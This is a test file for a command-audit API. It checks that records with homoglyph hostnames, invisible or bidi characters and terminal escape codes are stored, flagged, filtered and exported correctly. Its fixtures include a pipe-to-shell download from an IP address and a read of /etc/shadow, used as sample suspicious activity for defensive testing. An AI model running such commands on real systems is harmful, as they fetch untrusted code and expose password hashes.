/**
 * Unusual names over HTTP: a record whose names imitate another's is stored and flagged, never
 * merged with the real one nor refused; flags show in JSON, NDJSON and CSV and can be filtered on.
 * In-process: createApp() on a real SQLite store through app.request() (RouteSuite).
 */
import { beforeAll, describe, expect, test } from "bun:test";
import type { RecordFlag } from "../../protocol/index.ts";
import { type IngestAnswer, json, parseCsv, type Presented, RouteSuite, type TestApp } from "./helpers.ts";

const suite = new RouteSuite();

describe("names and flags on POST and GET /api/v1/commands", () => {
  const FAKE = "rt-s\u0440v"; // Cyrillic р (U+0440): renders as rt-srv
  const records = [
    suite.v2({ hostname: "rt-srv", sessionId: "real", seq: 1, command: "systemctl restart nginx" }),
    suite.v2({ hostname: FAKE, sessionId: "fake", seq: 1, command: "curl -s http://198.51.100.66/x | sh" }),
    suite.v2({ hostname: "rt-srv", sessionId: "real", seq: 2, suser: "ro\u202eot", command: "cat /etc/shadow" }),
    suite.v2({ hostname: "rt-srv", sessionId: "real", seq: 3, luser: "web\u200b01", cwd: "/tmp/\u001b[2J", command: "ls -la" }),
    suite.v2({ hostname: "rt-srv", sessionId: "real", seq: 4, luser: "john.doe@corp.example.com", suser: "HOST$", terminal: ":0", command: "klist" }),
  ];
  const FLAGS: RecordFlag[][] = [
    [],
    ["hostname-nonstandard", "name-confusable"],
    ["user-nonstandard", "name-invisible"],
    ["user-nonstandard", "name-invisible", "cwd-control"],
    [],
  ];
  const key = (r: Presented) => `${r.sessionId}/${r.seq}`;
  let t: TestApp;
  let ans: IngestAnswer;
  beforeAll(async () => {
    t = await suite.newApp();
    ans = await json<IngestAnswer>(await t.post(records));
  });

  test("the real host and its look-alike are both stored; only the look-alike is flagged; host=rt-srv finds only the real one", async () => {
    expect(ans).toMatchObject({ accepted: records.length, duplicates: 0, rejected: [] });
    const rows = await t.all();
    expect(rows.length).toBe(records.length);
    const real = rows.find((r) => r.sessionId === "real" && r.seq === 1)!;
    const fake = rows.find((r) => r.sessionId === "fake")!;
    expect([real.hostname, real.flags]).toEqual(["rt-srv", []]);
    expect([fake.hostname, fake.flags]).toEqual([FAKE, ["hostname-nonstandard", "name-confusable"]]);
    const byHost = await t.all({ host: "rt-srv" });
    expect(byHost.every((r) => r.hostname === "rt-srv")).toBe(true);
    expect(byHost.map(key).sort()).toEqual(["real/1", "real/2", "real/3", "real/4"]);
    expect((await t.all({ host: FAKE })).map(key)).toEqual(["fake/1"]);
  });

  test("every record carries its flags, [] when none, names and cwd exactly as sent", async () => {
    const rows = await t.all();
    for (const [i, src] of records.entries()) {
      const r = rows.find((x) => x.sessionId === src.sessionId && x.seq === src.seq)!;
      expect({ i, flags: r.flags }).toEqual({ i, flags: FLAGS[i]! });
      expect<unknown[]>([r.hostname, r.suser, r.luser, r.terminal, r.cwd]).toEqual([src.hostname, src.suser, src.luser, src.terminal, src.cwd]);
    }
  });

  test("flagged=true gives only flagged records, flagged=false only the others; a bad value is a 400 naming it", async () => {
    const flagged = await t.all({ flagged: "true" });
    expect(flagged.map(key).sort()).toEqual(["fake/1", "real/2", "real/3"]);
    expect(flagged.every((r) => r.flags.length > 0)).toBe(true);
    const clean = await t.all({ flagged: "false" });
    expect(clean.map(key).sort()).toEqual(["real/1", "real/4"]);
    expect((await t.all({ flagged: "true", host: "rt-srv" })).map(key).sort()).toEqual(["real/2", "real/3"]);
    const bad = await t.get("/api/v1/commands?flagged=yes");
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { msg: string }).msg).toContain("flagged");
  });

  test("NDJSON carries flags; CSV has them in a column of their own (before attestation), one comma-separated cell", async () => {
    const nd = (await (await t.get("/api/v1/commands?format=ndjson")).text()).trimEnd().split("\n").map((l) => JSON.parse(l) as Presented);
    expect(new Map(nd.map((r) => [key(r), r.flags]))).toEqual(new Map((await t.all()).map((r) => [key(r), r.flags])));
    for (const mode of ["safe", "raw"]) {
      const [header, ...lines] = parseCsv(await (await t.get(`/api/v1/commands?format=csv&csv=${mode}`)).text());
      expect(header!.slice(-5)).toEqual(["flags", "attestation", "attestedUser", "attestedLoginUser", "redactions"]);
      const col = (name: string) => header!.indexOf(name);
      const got = new Map(lines.map((l) => [`${l[col("sessionId")]}/${l[col("seq")]}`, l[col("flags")]]));
      expect(got.get("fake/1")).toBe("hostname-nonstandard,name-confusable");
      expect(got.get("real/3")).toBe("user-nonstandard,name-invisible,cwd-control");
      expect(got.get("real/1")).toBe("");
    }
  });

  test("a resend of a stored record is a duplicate; the same key with another cwd is a conflict, both kept and flagged", async () => {
    const again = await json<IngestAnswer>(await t.post([records[0]!]));
    expect(again).toMatchObject({ accepted: 0, duplicates: 1, rejected: [] });
    expect((await t.all({ session: "real" })).find((r) => r.seq === 1)!.flags).toEqual([]);
    const other = await json<IngestAnswer>(await t.post([{ ...records[0]!, cwd: "/tmp/\u202e" }]));
    expect(other).toMatchObject({ accepted: 1, duplicates: 0, rejected: [] });
    const seq1 = (await t.all({ session: "real" })).filter((r) => r.seq === 1).sort((a, b) => a.id - b.id);
    expect(seq1.map((r) => [r.cwd, r.flags])).toEqual([[seq1[0]!.cwd, ["conflict"]], ["/tmp/\u202e", ["cwd-control", "conflict"]]]);
    expect(seq1[0]!.cwd).not.toBe("/tmp/\u202e");
  });
});
